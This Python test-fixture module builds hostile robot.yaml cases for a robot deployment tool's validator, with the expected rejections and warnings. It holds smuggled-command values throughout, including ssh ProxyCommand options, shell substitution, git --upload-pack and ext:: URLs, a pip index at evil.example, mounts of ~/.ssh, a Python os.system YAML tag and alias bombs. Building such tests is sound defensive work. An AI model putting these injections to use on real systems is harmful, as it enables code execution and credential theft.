"""A corpus of hostile robot.yaml files: one concern each, with the outcome robocore must give.

Every file is a small valid robot with one value changed. Values that could run something try to
``touch`` the marker file ``{mark}`` (filled in by the test with a path in a temporary folder);
``{outside}`` is a folder outside the project. The base file, with the line of each slot:

     1  ros_distro: jazzy
     2  hosts:                         <- top(...) inserts its lines after line 1 (they start at line 2)
     3    - name: main
     4      ip: 192.168.1.10           <- ip(...) replaces this line
     5      user: robot
                                       <- host(...) inserts its lines here (they start at line 6)
     6  components:
     7    - name: talker
     8      folder: components/talker  <- image(...) replaces this line with an image
     9      runs_on: main
    10                                 <- comp(...) and common(...) append from line 10

An outcome is ``rejected`` with the ``file:line: key`` that validate must name, or ``warning`` with
the ``file:line: key`` of the one warning line validate must print (and exit 0).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

BASE = [
    "ros_distro: jazzy",
    "hosts:",
    "  - name: main",
    "    ip: 192.168.1.10",
    "    user: robot",
    "components:",
    "  - name: talker",
    "    folder: components/talker",
    "    runs_on: main",
]
FOLDERS = ("components/talker",)
MEGABYTE = 1_000_000
#: The robot.yaml of the fleet corpus: one host, one component of a pre-built image, a registry.
FLEET_ROBOT_YAML = """\
ros_distro: jazzy
registry: 10.0.0.2:5000
hosts:
  - {name: main, ip: 192.168.1.10}
components:
  - {name: talker, image: "ros:jazzy", runs_on: main}
"""


@dataclass(frozen=True)
class Case:
    """One hostile robot.yaml and what validate must say about it."""

    id: str
    text: str
    outcome: str  # "rejected" or "warning"
    where: str  # "robot.yaml:LINE: key" (or "robot.yaml" for a problem of the whole file)
    #: project-relative symlinks to create, pointing at ``{outside}`` sub-paths
    links: dict[str, str] = field(default_factory=dict)
    #: the value reaches git (a fetch) if robocore let it through
    git: bool = False


def q(value: str) -> str:
    """``value`` as a YAML double-quoted scalar (JSON escapes are valid YAML)."""
    return json.dumps(value)


def _doc(*, top: tuple[str, ...] = (), host: tuple[str, ...] = (), ip: str | None = None, image: str | None = None,
         comp: tuple[str, ...] = ()) -> str:
    lines = list(BASE)
    if ip is not None:
        lines[3] = f"    ip: {ip}"
    if image is not None:
        lines[7] = f"    image: {image}"
    lines = lines[:5] + list(host) + lines[5:]
    lines = lines[:1] + list(top) + lines[1:]
    return "\n".join([*lines, *comp]) + "\n"


def ip(value: str) -> str:
    """The host's ``ip`` (line 4)."""
    return _doc(ip=q(value))


def host(*lines: str) -> str:
    """Extra host keys (from line 6)."""
    return _doc(host=lines)


def top(*lines: str) -> str:
    """Extra top-level keys (from line 2)."""
    return _doc(top=lines)


def image(value: str) -> str:
    """The component uses an image instead of a folder (line 8)."""
    return _doc(image=q(value))


def comp(*lines: str) -> str:
    """Extra component keys (from line 10)."""
    return _doc(comp=lines)


def repo(url: str, *extra: str) -> str:
    """One repository of the component: ``url`` on line 11, ``extra`` keys from line 12."""
    return comp("    repositories:", f"      - url: {q(url)}", *(f"        {line}" for line in extra))


def version(value: str) -> str:
    """A repository at ``version`` (line 12)."""
    return repo("https://github.com/ros/common_msgs.git", f"version: {q(value)}")


def common(url: str, *extra: str) -> str:
    """A common package whose ``repo`` is on line 12, ``extra`` keys from line 13."""
    return comp("common_packages:", "  - name: msgs", f"    repo: {q(url)}", *(f"    {line}" for line in extra))


def one(key: str, value: str) -> str:
    """A component list key with one entry (line 10)."""
    return comp(f"    {key}: [{q(value)}]")


def env(name: str, value: str) -> str:
    """One environment variable (line 11)."""
    return comp("    environment:", f"      {q(name)}: {q(value)}")


def rejected(case_id: str, text: str, where: str, **extra: object) -> Case:
    return Case(case_id, text, "rejected", where, **extra)  # type: ignore[arg-type]


def warning(case_id: str, text: str, where: str, **extra: object) -> Case:
    return Case(case_id, text, "warning", where, **extra)  # type: ignore[arg-type]


IP = "robot.yaml:4: hosts[0].ip"
URL = "robot.yaml:11: components[0].repositories[0].url"
VERSION = "robot.yaml:12: components[0].repositories[0].version"
FOLDER = "robot.yaml:12: components[0].repositories[0].folder"
PIP = "robot.yaml:10: components[0].pip_packages[0]"
APT = "robot.yaml:10: components[0].apt_packages[0]"
DEVICE = "robot.yaml:10: components[0].devices[0]"
VOLUME = "robot.yaml:10: components[0].volumes[0]"
PORT = "robot.yaml:10: components[0].ports[0]"
BASE_IMAGE = "robot.yaml:3: base.image"
IMAGE = "robot.yaml:8: components[0].image"
MOUNT_ROOT = "robot.yaml:6: hosts[0].mount_root"
USER = "robot.yaml:5: hosts[0].user"

CASES: list[Case] = [
    # --- host addresses: reach ssh, rsync and Docker as user@ip ---------------------------------
    rejected("ip-ssh-option", ip("-oProxyCommand=touch {mark}"), IP),
    rejected("ip-command-substitution", ip("$(touch {mark})"), IP),
    rejected("ip-semicolon", ip("a;touch {mark}"), IP),
    rejected("ip-backticks", ip("`touch {mark}`"), IP),
    rejected("ip-with-user", ip("root@10.0.0.1"), IP),
    rejected("ip-with-option-after-space", ip("10.0.0.1 -oProxyCommand=touch {mark}"), IP),
    rejected("ip-escape-sequence", ip("\x1b[31mred\x1b[0m"), IP),
    rejected("ip-100000-characters", ip("a" * 100_000), IP),
    rejected("ip-newline", ip("10.0.0.1\ntouch {mark}"), IP),
    rejected("ip-zone-index", ip("fe80::1%$(touch {mark})"), IP),
    rejected("ip-short-numeric", ip("10.1"), IP),
    rejected("ip-octet-too-big", ip("999.1.1.1"), IP),
    rejected("ip-leading-zero", ip("010.0.0.1"), IP),
    rejected("ip-underscore", ip("robot_1.local"), IP),
    rejected("ip-leading-hyphen-label", ip("robot.-x.local"), IP),
    rejected("ip-trailing-hyphen-label", ip("robot-.local"), IP),
    rejected("ip-brackets", ip("[::1]"), IP),
    rejected("ip-with-port", ip("10.0.0.1:22"), IP),
    rejected("ip-empty", ip(""), IP),
    rejected("ip-bidi-override", ip("\u202eevil.local"), IP),
    rejected("ip-url", ip("ssh://10.0.0.1"), IP),
    rejected("ip-path", ip("localhost/x"), IP),
    rejected("ip-label-too-long", ip("a" * 64 + ".local"), IP),
    rejected("ip-ipv6-runs-discovery", ip("2001:db8::5"), IP),
    # --- other host values -------------------------------------------------------------------------
    rejected("user-ssh-option", _doc().replace("user: robot", "user: '-oProxyCommand=x'"), USER),
    rejected("user-semicolon", _doc().replace("user: robot", "user: 'root;id'"), USER),
    rejected("mount-root-slash", host("    mount_root: /"), MOUNT_ROOT),
    rejected("mount-root-dotdot", host("    mount_root: /srv/../etc"), MOUNT_ROOT),
    rejected("mount-root-relative", host("    mount_root: srv/robot"), MOUNT_ROOT),
    rejected("mount-root-command", host(f"    mount_root: {q('/srv/$(touch {mark})')}"), MOUNT_ROOT),
    rejected("mount-root-newline", host(f"    mount_root: {q('/srv/x' + chr(10) + 'y')}"), MOUNT_ROOT),
    rejected("mount-root-double-slash", host("    mount_root: //srv"), MOUNT_ROOT),
    rejected("mount-root-space", host("    mount_root: '/srv/a b'"), MOUNT_ROOT),
    rejected("mount-root-dot", host("    mount_root: /srv/./x"), MOUNT_ROOT),
    rejected("tls-file-escape", host("    docker: tls", "    tls: {ca_cert: \"ca\\u001b]0;x\", client_cert: c, "
                                     "client_key: k}"), "robot.yaml:7: hosts[0].tls.ca_cert"),
    # --- registry, image prefix, images: reach Dockerfiles, compose files and docker-py ------------
    rejected("registry-option", top("registry: '-x'"), "robot.yaml:2: registry"),
    rejected("registry-upper-case-path", top("registry: reg.io/Team"), "robot.yaml:2: registry"),
    rejected("registry-newline", top(f"registry: {q('reg.io/x' + chr(10) + 'RUN touch {mark}')}"),
             "robot.yaml:2: registry"),
    rejected("registry-command", top(f"registry: {q('$(touch {mark})')}"), "robot.yaml:2: registry"),
    rejected("image-prefix-option", top("image_prefix: '-x'"), "robot.yaml:2: image_prefix"),
    rejected("image-prefix-upper-case", top("image_prefix: A/"), "robot.yaml:2: image_prefix"),
    rejected("image-prefix-semicolon", top(f"image_prefix: {q('x;touch {mark}')}"), "robot.yaml:2: image_prefix"),
    rejected("image-prefix-dotdot", top("image_prefix: ../x"), "robot.yaml:2: image_prefix"),
    rejected("base-image-newline-run", top("base:", f"  image: {q('debian' + chr(10) + 'RUN touch {mark}')}"),
             BASE_IMAGE),
    rejected("base-image-option", top("base:", "  image: '--platform=linux/arm64'"), BASE_IMAGE),
    rejected("base-image-upper-case", top("base:", "  image: Debian:12"), BASE_IMAGE),
    rejected("base-image-space", top("base:", "  image: 'debian:bookworm slim'"), BASE_IMAGE),
    rejected("base-image-bad-digest", top("base:", "  image: debian@sha256:abc"), BASE_IMAGE),
    rejected("base-image-empty-tag", top("base:", "  image: 'debian:'"), BASE_IMAGE),
    rejected("base-image-semicolon", top("base:", f"  image: {q('ros:jazzy;touch {mark}')}"), BASE_IMAGE),
    rejected("component-image-newline", image("busybox\nRUN touch {mark}"), IMAGE),
    rejected("component-image-option", image("-it"), IMAGE),
    rejected("component-image-upper-case", image("Team/image"), IMAGE),
    rejected("component-image-space", image("busybox:1 sh"), IMAGE),
    rejected("component-image-command", image("$(touch {mark})"), IMAGE),
    # --- git URLs: reach `git fetch` on this machine ------------------------------------------------
    rejected("url-upload-pack", repo("--upload-pack=touch {mark}"), URL, git=True),
    rejected("url-short-option", repo("-utouch {mark}"), URL, git=True),
    rejected("url-ext-without-opt-in", repo("ext::sh -c touch% {mark}"), URL, git=True),
    rejected("url-file-without-opt-in", repo("file:///etc"), URL, git=True),
    rejected("url-local-path-without-opt-in", repo("{outside}/.ssh"), URL, git=True),
    rejected("url-relative-path-without-opt-in", repo("./local/repo"), URL, git=True),
    rejected("url-remote-helper", repo("fd::17"), URL, git=True),
    rejected("url-other-remote-helper", repo("transport::touch {mark}"), URL, git=True),
    rejected("url-newline", repo("https://github.com/x/y\n--upload-pack=touch {mark}"), URL, git=True),
    rejected("url-password", repo("https://user:secret@github.com/x/y.git"), URL, git=True),
    rejected("url-http-without-opt-in", repo("http://github.com/x/y"), URL, git=True),
    rejected("url-git-without-opt-in", repo("git://github.com/x/y"), URL, git=True),
    rejected("url-ssh-host-option", repo("ssh://-oProxyCommand=touch% {mark}/x"), URL, git=True),
    rejected("url-scp-path-option", repo("host:-oProxyCommand=x"), URL, git=True),
    rejected("url-scp-host-option", repo("-oProxyCommand=x:repo"), URL, git=True),
    rejected("url-folder-dotdot", repo("https://github.com/x/.."), URL, git=True),
    rejected("url-folder-dot", repo("https://github.com/x/."), URL, git=True),
    rejected("url-folder-empty", repo("https://github.com/x/.git"), URL, git=True),
    rejected("url-unknown-scheme", repo("ftp://host/x"), URL, git=True),
    rejected("url-empty", repo(""), URL, git=True),
    rejected("url-space", repo("https://github.com/x/y --upload-pack=x"), URL, git=True),
    rejected("url-escape-sequence", repo("https://github.com/\x1b[2Jx"), URL, git=True),
    rejected("url-opt-in-other-protocol", repo("ext::sh -c touch% {mark}", "allow_protocol: file"), URL, git=True),
    rejected("folder-escapes", repo("https://github.com/x/y", "folder: ../../escape"), FOLDER, git=True),
    rejected("folder-dot", repo("https://github.com/x/y", "folder: ."), FOLDER, git=True),
    rejected("folder-option", repo("https://github.com/x/y", "folder: '-x'"), FOLDER, git=True),
    rejected("folder-double-slash", repo("https://github.com/x/y", "folder: a//b"), FOLDER, git=True),
    rejected("folder-absolute", repo("https://github.com/x/y", "folder: /etc"), FOLDER, git=True),
    rejected("folder-newline", repo("https://github.com/x/y", f"folder: {q('a' + chr(10) + 'b')}"), FOLDER, git=True),
    rejected("folder-colon", repo("https://github.com/x/y", "folder: 'a: b'"), FOLDER, git=True),
    rejected("allow-protocol-unknown", repo("https://github.com/x/y", "allow_protocol: all"),
             "robot.yaml:12: components[0].repositories[0].allow_protocol", git=True),
    rejected("two-repositories-one-folder", comp("    repositories:", "      - url: https://a.example/x/y.git",
                                                 "      - url: https://b.example/z/y.git"),
             "robot.yaml:12: components[0].repositories[1].url", git=True),
    # --- git versions ------------------------------------------------------------------------------
    rejected("version-upload-pack", version("--upload-pack=touch {mark}"), VERSION, git=True),
    rejected("version-short-option", version("-b"), VERSION, git=True),
    rejected("version-dotdot", version("main..dev"), VERSION, git=True),
    rejected("version-hidden-part", version("feature/.hidden"), VERSION, git=True),
    rejected("version-lock", version("v1.lock"), VERSION, git=True),
    rejected("version-space", version("a b"), VERSION, git=True),
    rejected("version-tilde", version("main~1"), VERSION, git=True),
    rejected("version-caret", version("HEAD^"), VERSION, git=True),
    rejected("version-at", version("@"), VERSION, git=True),
    rejected("version-newline", version("main\n--upload-pack=x"), VERSION, git=True),
    rejected("version-colon", version("a:b"), VERSION, git=True),
    rejected("version-trailing-slash", version("release/"), VERSION, git=True),
    rejected("version-double-slash", version("refs//x"), VERSION, git=True),
    rejected("version-command", version("$(touch {mark})"), VERSION, git=True),
    rejected("version-trailing-dot", version("v1."), VERSION, git=True),
    rejected("version-empty", version(""), VERSION, git=True),
    # --- common packages (fetched by prepare-base) --------------------------------------------------
    rejected("common-repo-upload-pack", common("--upload-pack=touch {mark}"), "robot.yaml:12: common_packages[0].repo",
             git=True),
    rejected("common-repo-ext", common("ext::sh -c touch% {mark}"), "robot.yaml:12: common_packages[0].repo", git=True),
    rejected("common-repo-file", common("file:///srv/x"), "robot.yaml:12: common_packages[0].repo", git=True),
    rejected("common-branch-option", common("https://github.com/x/msgs.git", "branch: '--upload-pack=x'"),
             "robot.yaml:13: common_packages[0].branch", git=True),
    rejected("common-branch-short-option", common("https://github.com/x/msgs.git", "branch: '-x'"),
             "robot.yaml:13: common_packages[0].branch", git=True),
    # --- pip and apt entries: reach RUN lines of the component's Dockerfile --------------------------
    rejected("pip-index-url", one("pip_packages", "--index-url=http://evil.example/simple"), PIP),
    rejected("pip-requirements-file", one("pip_packages", "-r/etc/passwd"), PIP),
    rejected("pip-editable", one("pip_packages", "-e ."), PIP),
    rejected("pip-semicolon", one("pip_packages", "numpy; touch {mark}"), PIP),
    rejected("pip-newline", one("pip_packages", "numpy\nRUN touch {mark}"), PIP),
    rejected("pip-extra-index", one("pip_packages", "--extra-index-url http://x numpy"), PIP),
    rejected("pip-command", one("pip_packages", "$(touch {mark})"), PIP),
    rejected("pip-empty", one("pip_packages", ""), PIP),
    rejected("apt-option", one("apt_packages", "-o APT::Update::Pre-Invoke::=touch {mark}"), APT),
    rejected("apt-semicolon", one("apt_packages", "curl;touch {mark}"), APT),
    rejected("apt-newline", one("apt_packages", "curl\nRUN touch {mark}"), APT),
    rejected("apt-upper-case", one("apt_packages", "Curl"), APT),
    rejected("apt-two-words", one("apt_packages", "curl=1.0 evil"), APT),
    rejected("apt-long-option", one("apt_packages", "--allow-unauthenticated"), APT),
    # --- environment, commands ------------------------------------------------------------------------
    rejected("env-name-space", env("A B", "x"), "robot.yaml:11: components[0].environment['A B']"),
    rejected("env-name-digit", env("1X", "x"), "robot.yaml:11: components[0].environment.1X"),
    rejected("env-name-equals", env("LD_PRELOAD=x", "y"), "robot.yaml:11: components[0].environment['LD_PRELOAD=x']"),
    rejected("env-value-nul", env("X", "a\x00b"), "robot.yaml:11: components[0].environment.X"),
    rejected("env-value-escape", env("X", "\x1b[2J"), "robot.yaml:11: components[0].environment.X"),
    rejected("entrypoint-newline", comp(f"    entrypoint: {q('ros2 run x' + chr(10) + 'RUN touch {mark}')}"),
             "robot.yaml:10: components[0].entrypoint"),
    rejected("launch-args-escape", comp(f"    launch_args: {q(chr(27) + ']0;title' + chr(7))}"),
             "robot.yaml:10: components[0].launch_args"),
    rejected("postinstall-nul", one("postinstall", "echo\x00x"), "robot.yaml:10: components[0].postinstall[0]"),
    # --- devices, volumes, ports ------------------------------------------------------------------------
    rejected("device-option", one("devices", "--privileged"), DEVICE),
    rejected("device-not-under-dev", one("devices", "/etc/shadow:/x"), DEVICE),
    rejected("device-dotdot", one("devices", "/dev/../etc:/x"), DEVICE),
    rejected("device-bad-permissions", one("devices", "/dev/ttyUSB0:/dev/ttyUSB0:rwx"), DEVICE),
    rejected("device-relative-target", one("devices", "/dev/ttyUSB0:ttyUSB0"), DEVICE),
    rejected("volume-target-root", one("volumes", "/srv/data:/"), VOLUME),
    rejected("volume-source-dotdot", one("volumes", "/etc/../root:/x"), VOLUME),
    rejected("volume-home-tilde", one("volumes", "~/.ssh:/root/.ssh"), VOLUME),
    rejected("volume-bad-mode", one("volumes", "./x:/y:rox"), VOLUME),
    rejected("volume-relative-target", one("volumes", "./x:../y"), VOLUME),
    rejected("volume-source-space", one("volumes", "name with space:/x"), VOLUME),
    rejected("volume-symlink-out-of-project", one("volumes", "./keys:/keys:ro"), VOLUME,
             links={"keys": ".ssh"}),
    rejected("volume-nested-symlink-out-of-project", one("volumes", "./conf/keys:/keys:ro"), VOLUME,
             links={"conf/keys": ".ssh"}),
    rejected("port-newline", one("ports", "80:80\nx"), PORT),
    rejected("port-option", one("ports", "-p 80:80"), PORT),
    rejected("port-semicolon", one("ports", "0.0.0.0:80:80;touch {mark}"), PORT),
    rejected("port-bad-address", one("ports", "999.1.1.1:80:80"), PORT),
    # --- names --------------------------------------------------------------------------------------------
    rejected("component-name-option", _doc().replace("name: talker", "name: '-x'"), "robot.yaml:7: components[0].name"),
    rejected("host-name-command", _doc().replace("name: main", f"name: {q('$(touch {mark})')}"),
             "robot.yaml:3: hosts[0].name"),
    rejected("runs-on-semicolon", _doc().replace("runs_on: main", f"runs_on: {q('main;touch {mark}')}"),
             "robot.yaml:9: components[0].runs_on"),
    # --- the file itself --------------------------------------------------------------------------------------
    rejected("alias-bomb", "ros_distro: jazzy\na0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)) + "hosts: *a9\n", "robot.yaml"),
    rejected("recursive-alias", "ros_distro: jazzy\nhosts: &h [*h]\n", "robot.yaml:2"),
    rejected("deep-nesting", "ros_distro: jazzy\nhosts: " + "[" * 100_000 + "\n", "robot.yaml:2"),
    rejected("python-tag", top(f"image_prefix: !!python/object/apply:os.system [{q('touch {mark}')}]"),
             "robot.yaml:2"),
    rejected("over-a-megabyte", _doc() + "#" + "x" * MEGABYTE + "\n", "robot.yaml"),
    rejected("nul-byte", _doc() + "\x00\n", "robot.yaml"),
    # --- what aliases expand to, paths after normalisation, YAML 1.1 numbers, shell words -----------
    rejected("alias-bytes", "ros_distro: jazzy\nx: &x " + "y" * 300_000 + "\nhosts: [*x, *x, *x, *x, *x, *x, *x]\n",
             "robot.yaml"),
    rejected("alias-merge-bytes", "ros_distro: jazzy\nm: &m {a: " + "z" * 200_000 + "}\nhosts:\n" + "".join(
        f"  - {{<<: *m, b{i}: 1}}\n" for i in range(12)), "robot.yaml"),
    rejected("volume-relative-leaves-project", one("volumes", "../../../var/run/docker.sock:/s"), VOLUME),
    rejected("volume-dot-relative-leaves-project", one("volumes", "./../../..:/host"), VOLUME),
    rejected("volume-double-slash-relative-leaves", one("volumes", ".//x/../../etc:/e"), VOLUME),
    rejected("volume-repeated-slashes", one("volumes", "//var//run/docker.sock:/s"), VOLUME),
    rejected("ssh-port-octal", host("    ssh_port: 022"), "robot.yaml:6"),
    rejected("ssh-port-bool", host("    ssh_port: true"), "robot.yaml:6: hosts[0].ssh_port"),
    rejected("ssh-port-base-60", host("    ssh_port: 1:30"), "robot.yaml:6"),
    rejected("entrypoint-unbalanced-quote", comp(f"    entrypoint: {q(chr(39) + 'touch {mark}')}"),
             "robot.yaml:10: components[0].entrypoint"),
    rejected("launch-args-unbalanced-quote", comp(f"    launch_args: {q('x:=' + chr(34) + 'a')}"),
             "robot.yaml:10: components[0].launch_args"),
    rejected("number-too-long-to-print", host("    ssh_port: " + "9" * 5000), "robot.yaml:6"),
    # --- dangerous but allowed: one warning line each -------------------------------------------------------
    warning("privileged", comp("    privileged: true"), "robot.yaml:10: components[0].privileged"),
    warning("volume-host-root", one("volumes", "/:/host"), VOLUME),
    warning("volume-host-root-read-only", one("volumes", "/:/host:ro"), VOLUME),
    warning("volume-docker-socket", one("volumes", "/var/run/docker.sock:/var/run/docker.sock"), VOLUME),
    warning("volume-run-docker-socket", one("volumes", "/run/docker.sock:/run/docker.sock:ro"), VOLUME),
    warning("volume-folder-of-docker-socket", one("volumes", "/var/run:/host-run"), VOLUME),
    warning("device-disk", one("devices", "/dev/sda:/dev/sda"), DEVICE),
    warning("device-partition", one("devices", "/dev/sdb1"), DEVICE),
    warning("device-nvme", one("devices", "/dev/nvme0n1"), DEVICE),
    warning("device-sd-card", one("devices", "/dev/mmcblk0p2:/dev/mmcblk0p2:rw"), DEVICE),
    warning("device-all-of-dev", one("devices", "/dev:/dev"), DEVICE),
    warning("volume-etc-writable", one("volumes", "/etc:/host-etc"), VOLUME),
    warning("volume-proc-read-only", one("volumes", "/proc:/host-proc:ro"), VOLUME),
    warning("volume-boot-firmware", one("volumes", "/boot/firmware:/fw"), VOLUME),
    warning("device-memory", one("devices", "/dev/mem"), DEVICE),
    warning("device-flash", one("devices", "/dev/mtd0:/dev/mtd0"), DEVICE),
    warning("host-insecure-tcp", host("    docker: tcp", "    insecure: true"), "robot.yaml:7: hosts[0].insecure"),
    warning("mount-root-system-folder", host("    mount_root: /usr/lib/robocore"), MOUNT_ROOT),
    warning("url-ext-opted-in", repo("ext::sh -c touch% {mark}", "allow_protocol: ext"), URL, git=True),
    warning("url-file-opted-in", repo("file:///srv/mirror/x.git", "allow_protocol: file"), URL, git=True),
    warning("common-repo-ext-opted-in", common("ext::sh -c touch% {mark}", "allow_protocol: ext"),
            "robot.yaml:12: common_packages[0].repo", git=True),
    warning("volume-symlink-opted-in", comp("    allow_outside_project: true", "    volumes: ['./keys:/keys:ro']"),
            "robot.yaml:11: components[0].volumes[0]", links={"keys": "shared"}),
]
